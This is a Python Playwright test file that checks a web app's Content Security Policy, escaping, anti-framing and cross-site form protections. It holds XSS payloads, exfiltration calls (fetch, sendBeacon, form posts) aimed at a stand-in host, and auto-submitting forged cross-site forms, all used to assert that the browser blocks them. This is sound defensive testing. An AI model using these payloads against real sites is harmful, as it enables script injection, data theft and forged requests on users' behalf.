"""What a real browser refuses on our behalf: scripts and styles that are not ours, and our pages in others' frames."""

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import ClassVar

import pytest
from playwright.sync_api import Page, Route, expect

from cordee.engine import commands as c
from tests.browser.over_http import LiveRoom
from tests.browser.people import Person, until
from tests.characters import play
from tests.conftest import Template

pytestmark = pytest.mark.browser
LISTEN = """
window.refused = [];
addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective + ' ' + event.blockedURI));
"""
ELSEWHERE = "http://127.0.0.1:9"  # where what is injected would go


@pytest.fixture(scope="module")
def own_server(template: Template) -> Iterator:
    with template.server() as running:
        yield running


@pytest.fixture
def room(own_server) -> Iterator[LiveRoom]:
    live = LiveRoom(own_server.url, members=("claire", "karim", "nadia"))
    yield live
    live.close()


def person(desktop, name: str, address: str) -> Person:
    context = desktop()
    context.add_init_script(LISTEN)
    return Person(context, name, address)


def refused(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.refused")
    return found


def test_no_page_of_ours_breaks_our_own_rules(desktop, room):
    """At four steps of a round, for each who sees something else; then everything outside of a room."""
    stage = f"{room.url}/salle/{room.id}/"
    seats = [person(desktop, name.title(), room.places[name]) for name in ("fanny", "claire", "karim")]
    wall = person(desktop, "l’écran", room.screen_url)
    for step in ("recit", "questions", "suggestions", "ouvertures"):
        play(room, until=step)
        for one in (*seats, wall):
            one.page.reload()
            one.is_live()
            for opener in one.page.locator("summary:visible").all():
                opener.click()
            assert refused(one.page) == [], (one.name, step)
    play(room)
    room.do(c.Close(seat="fanny", reason="Fini."))
    visitor = seats[1]
    for path in (
        f"{stage}bilan/", "/", "/ateliers/", "/salles/nouvelle/", "/rejoindre/", "/s/ABCDEFGHJK/", "/nowhere",
        "/place/nothing/", "/.well-known/security.txt",
    ):  # fmt: skip
        visitor.page.goto(path if path.startswith("http") or path.startswith(stage) else f"{room.url}{path}")
        assert refused(visitor.page) == [], path
    told = [complaint for one in (*seats, wall) for complaint in one.complaints if "Content Security" in complaint]
    assert told == []


INJECTED = """
<script>window.ran = 'inline'</script><img src="x" onerror="window.ran = 'handler'"><base href="http://127.0.0.1:9/">
<a id="link" href="javascript:window.ran='address'">x</a><style>body { background: rgb(1, 2, 3) }</style>
<p id="styled" style="color: rgb(1, 2, 3)">x</p><script src="http://127.0.0.1:9/evil.js"></script>
<object data="http://127.0.0.1:9/x"></object><iframe src="http://127.0.0.1:9/x"></iframe><img src="http://127.0.0.1:9/seen">
<form id="sent" action="http://127.0.0.1:9/taken"><input name="words" value="x"></form>
<script src="/static/web/injected.js"></script></main>
"""
SCRIPT = """
window.began = true;
for (const way of [() => eval("window.ran = 'eval'"), () => new Function("window.ran = 'Function'")(),
                   () => setTimeout("window.ran = 'timeout'", 0)]) { try { way() } catch { } }
fetch('http://127.0.0.1:9/gone?words').catch(() => {});
navigator.sendBeacon('http://127.0.0.1:9/gone', 'words');
try { new WebSocket('ws://127.0.0.1:9/gone') } catch { }
try { new Worker('data:text/javascript,') } catch { }
"""


def test_what_is_injected_in_a_page_does_not_run_and_sends_nothing_away(desktop, room):
    """Were escaping to fail somewhere, this is what would be left: even a script from our own address has no eval."""
    karim = person(desktop, "Karim", room.places["karim"])
    asked: list[str] = []
    karim.context.route(f"{ELSEWHERE}/**", lambda route: (asked.append(route.request.url), route.fulfill(body="")))
    karim.context.route(
        "**/static/web/injected.js", lambda route: route.fulfill(body=SCRIPT, content_type="text/javascript")
    )

    def with_more(route: Route) -> None:
        real = route.fetch()
        route.fulfill(response=real, body=real.text().replace("</main>", INJECTED))

    karim.context.route(f"{room.url}/salle/{room.id}/", with_more)
    karim.page.goto(f"{room.url}/salle/{room.id}/")
    until(karim.page, "window.began === true")
    karim.page.locator("#link").evaluate("link => link.click()")
    karim.page.locator("#sent").evaluate("form => form.submit()")
    karim.page.wait_for_timeout(300)
    assert karim.page.evaluate("window.ran") is None
    assert asked == []
    assert karim.page.url == f"{room.url}/salle/{room.id}/"
    for style in ("getComputedStyle(document.body).backgroundColor", "getComputedStyle(styled).color"):
        assert karim.page.evaluate(style) != "rgb(1, 2, 3)"
    directives = {one.split()[0] for one in refused(karim.page)}
    kinds = ("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "base-uri", "img-src")
    assert directives >= {*kinds, "script-src", "connect-src", "form-action"}
    assert {"object-src", "frame-src", "default-src"} & directives


def test_a_hostile_card_that_arrives_by_the_stream_is_text(desktop, room):
    claire = person(desktop, "Claire", room.places["claire"])
    claire.is_live()
    title = "<img src=x onerror=\"window.ran='card'\"><script>window.ran='card'</script><b hx-get='/'>Comment ?"
    room.do(c.Write(seat="karim", id="hostile-card-1", kind="situation", body={"title": title}))
    expect(claire.page.locator("article.card h3")).to_have_text(title)
    room.do(c.Rename(seat="karim", name="<svg onload=window.ran='name'>"))
    expect(claire.page.locator("#ring")).to_contain_text("<svg")
    assert claire.page.evaluate("window.ran") is None
    assert claire.page.locator("#stage img, #stage b, #stage script").count() == 0
    assert refused(claire.page) == []
    assert claire.complaints == []


# ---------------------------------------------------------------- pages of others


class Foreign(BaseHTTPRequestHandler):
    """A real server of another origin, on this machine as well: browsers ask more of a page that is only pretended."""

    pages: ClassVar[dict[str, str]] = {"/framed": "<p>Karim</p>"}

    def do_GET(self) -> None:
        body = self.pages.get(self.path, "").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def foreign() -> Iterator[str]:
    """Its address."""
    site = ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    site.daemon_threads = True
    serving = Thread(target=site.serve_forever, daemon=True)
    serving.start()
    yield f"http://127.0.0.1:{site.server_address[1]}"
    site.shutdown()
    site.server_close()
    serving.join(10)


def elsewhere(one: Person, foreign: str, body: str) -> Page:
    """A page of another origin of the same site, opened in the browser of somebody who is seated."""
    Foreign.pages["/page"] = body
    page = one.context.new_page()
    page.goto(f"{foreign}/page")
    return page


@pytest.mark.parametrize("element", ["<iframe src='{}'></iframe>", "<embed src='{}'>", "<object data='{}'></object>"])
def test_the_room_shows_in_no_frame_of_another_page(desktop, room, foreign, element):
    karim = person(desktop, "Karim", room.places["karim"])
    framed, stage = f"{foreign}/framed", f"{room.url}/salle/{room.id}/"
    for address, shown in ((framed, True), (stage, False), (f"{room.url}/", False)):
        page = elsewhere(karim, foreign, element.format(address))
        page.wait_for_load_state("load")
        for _ in range(600 if shown else 10):
            page.wait_for_timeout(50)
            if framed_text(page):
                break
        assert bool(framed_text(page)) == shown, address
        page.close()


def framed_text(page: Page) -> str:
    """All that is read in the frames of a page."""
    frames = [frame for frame in page.frames if frame != page.main_frame and frame.url.startswith("http")]
    return "".join(frame.evaluate("document.body ? document.body.innerText : ''") for frame in frames).strip()


def test_a_form_that_another_page_sends_by_itself_writes_nothing(desktop, room, foreign):
    """Of the same site, so that the cookies do travel: the page's origin alone stands in its way."""
    karim = person(desktop, "Karim", room.places["karim"])
    answers: list[int] = []
    stage = f"{room.url}/salle/{room.id}/"
    karim.context.on("response", lambda one: answers.append(one.status) if one.request.method == "POST" else None)
    sent = (
        ("contributions", {"do": "write", "kind": "note", "id": "stolen-note-1", "body.text": "zqforgedqz"}, 409),
        ("brouillon", {"kind": "note", "body.text": "zqforgedqz"}, 403),
        ("sortir", {}, 409),
    )
    for end, fields, status in sent:
        inputs = "".join(f'<input type="hidden" name="{name}" value="{value}">' for name, value in fields.items())
        form = f'<form id="f" method="post" action="{stage}{end}">{inputs}</form><script>f.submit()</script>'
        answers.clear()
        page = elsewhere(karim, foreign, form)
        for _ in range(200):
            if answers:
                break
            page.wait_for_timeout(100)
        assert answers == [status], end  # not 404: the cookie did come along
        page.close()
    assert "zqforgedqz" not in room.page("karim")
    karim.page.goto(stage)
    karim.is_live()  # still seated


def test_another_page_reads_nothing_of_the_room(desktop, room, foreign):
    karim = person(desktop, "Karim", room.places["karim"])
    page = elsewhere(karim, foreign, "<p>x</p>")
    addresses = {f"{room.url}/salle/{room.id}/{end}": "" for end in ("", "maintenant", "stream", "bilan/")}
    for address, expected in {**addresses, f"{foreign}/framed": "<p>Karim</p>"}.items():
        read = page.evaluate(
            """async address => {
                for (const mode of ['cors', 'no-cors']) {
                    try { const a = await fetch(address, {credentials: 'include', mode}); const t = await a.text();
                          if (t) return t } catch { } }
                return '' }""",
            address,
        )
        assert read == expected, address
    opened = page.evaluate(
        """address => { const other = window.open(address);
                        let looks = 0;
                        return new Promise(done => {
                            const look = () => {
                                if (other.closed || ++looks > 600) done(other.closed); else setTimeout(look, 50) };
                            look() }) }""",
        f"{room.url}/salle/{room.id}/",
    )
    assert opened is True  # cut from who opened it
